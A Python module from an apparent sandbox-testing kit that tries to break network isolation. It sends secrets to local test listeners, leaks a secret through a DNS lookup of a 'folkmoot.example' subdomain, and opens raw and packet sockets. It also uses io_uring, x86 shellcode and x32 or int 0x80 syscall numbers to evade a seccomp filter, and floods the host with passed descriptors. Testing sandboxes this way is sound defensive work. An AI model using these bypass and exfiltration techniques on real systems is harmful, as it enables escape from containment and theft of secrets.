"""Attempts to reach the network, or any server on this machine."""

from __future__ import annotations

import array
import ctypes
import os
import socket
import struct

from folkmoot_kit.attacks.attempts import Collection, Group, Refused, Targets
from folkmoot_kit.attacks.system_calls import (
    X32,
    X86,
    call,
    call_number,
    machine_code,
    negative_is_error,
)

NETWORK = Collection(Group.NETWORK)
attempt = NETWORK.attempt


def _send(family: int, address: tuple[str, int] | str, secret: str) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as made:
        made.settimeout(2)
        made.connect(address)
        made.sendall(secret.encode())
    return "connected, and sent"


@attempt("Connect over IPv4")
def connect_ipv4(at: Targets) -> str:
    """Sends a secret to a server that listens on 127.0.0.1 of this machine."""
    return _send(socket.AF_INET, ("127.0.0.1", at.ipv4_port), at.secret)


@attempt("Connect over IPv6")
def connect_ipv6(at: Targets) -> str:
    """Sends a secret to a server that listens on ::1 of this machine."""
    return _send(socket.AF_INET6, ("::1", at.ipv6_port), at.secret)


@attempt("Connect to a UNIX socket by its path")
def connect_unix_path(at: Targets) -> str:
    """Sends a secret to a server of this machine that listens on a file."""
    return _send(socket.AF_UNIX, at.unix_path, at.secret)


@attempt("Connect to an abstract UNIX socket")
def connect_unix_abstract(at: Targets) -> str:
    """Sends a secret to a server of this machine that listens on a name without a file."""
    return _send(socket.AF_UNIX, f"\0{at.unix_abstract}", at.secret)


@attempt("Send by UDP")
def send_udp(at: Targets) -> str:
    """Sends a datagram with a secret, for which no connection is needed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(at.secret.encode(), ("127.0.0.1", at.dns_port))
    return "sent"


@attempt("Look up a name")
def look_up_name(at: Targets) -> str:
    """Carries a secret out as a name that is looked up, by the C library, in the DNS."""
    library = ctypes.CDLL(None)
    library.__res_init()
    library.__res_state.restype = ctypes.c_void_p
    state = library.__res_state()
    # retrans, retry, options, nscount, then the first server as a sockaddr_in
    ctypes.c_int.from_address(state + 16).value = 1
    server = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s", at.dns_port, b"\x7f\0\0\1")
    ctypes.memmove(state + 20, server, len(server))
    found = socket.getaddrinfo(f"{at.secret}.folkmoot.example", 443, socket.AF_INET)
    return f"{len(found)} answers"


@attempt("Listen for connections")
def listen(at: Targets) -> str:
    """Waits for others to connect."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as made:
        made.bind(("127.0.0.1", 0))
        made.listen()
        return f"listens on port {made.getsockname()[1]}"


def _opens(family: int, kind: int, protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol) as made:
        return f"has descriptor {made.fileno()}"


@attempt("Open a raw socket")
def raw_socket(at: Targets) -> str:
    """Asks for a socket on which it writes the headers of packets itself."""
    return _opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt("Open a packet socket")
def packet_socket(at: Targets) -> str:
    """Asks to hear all packets of the machine's network."""
    return _opens(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


@attempt("Open a netlink socket")
def netlink_socket(at: Targets) -> str:
    """Asks the kernel for its tables of networks."""
    return _opens(socket.AF_NETLINK, socket.SOCK_RAW)


@attempt("Open a vsock socket")
def vsock_socket(at: Targets) -> str:
    """Asks for the way between a virtual machine and its host."""
    return _opens(socket.AF_VSOCK, socket.SOCK_STREAM)


@attempt("Open a socket of the kernel's ciphers")
def cipher_socket(at: Targets) -> str:
    """Asks for AF_ALG, a part of the kernel with a history of faults."""
    return _opens(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attempt("Open a socket through io_uring")
def io_uring(at: Targets) -> str:
    """Sets up a ring through which sockets and files are opened past a filter of system calls."""
    ring = call("io_uring_setup", 4, ctypes.create_string_buffer(120))
    os.close(ring)
    return "has a ring"


@attempt("Open a socket by machine code", machines=X86)
def socket_by_machine_code(at: Targets) -> str:
    """Writes the instructions of the system call into memory and jumps to them."""
    code = b"\xb8\x29\0\0\0\xbf\x02\0\0\0\xbe\x01\0\0\0\x31\xd2\x0f\x05\xc3"
    return f"has descriptor {negative_is_error(machine_code(code))}"


@attempt("Open a socket by a 32-bit system call", machines=X86)
def socket_by_32_bit_call(at: Targets) -> str:
    """Calls the kernel by interrupt 0x80, whose numbers mean other calls."""
    code = b"\x53\xb8\x67\x01\0\0\xbb\x02\0\0\0\xb9\x01\0\0\0\x31\xd2\xcd\x80\x5b\x48\x98\xc3"
    return f"has descriptor {negative_is_error(machine_code(code))}"


@attempt("Open a socket by an x32 system call", machines=X86)
def socket_by_x32_call(at: Targets) -> str:
    """Calls the kernel by the numbers of the x32 ABI, which a filter may forget."""
    return f"has descriptor {call_number(X32 + 41, 2, 1, 0)}"


@attempt("Hand the host a descriptor")
def hand_over_descriptor(at: Targets) -> str:
    """Sends open files along the channel, so that the host's own run out."""
    with socket.socket(fileno=os.dup(0)) as channel:
        files = array.array("i", [1] * 200)
        channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    raise Refused("sent; whether the host takes them shows there")
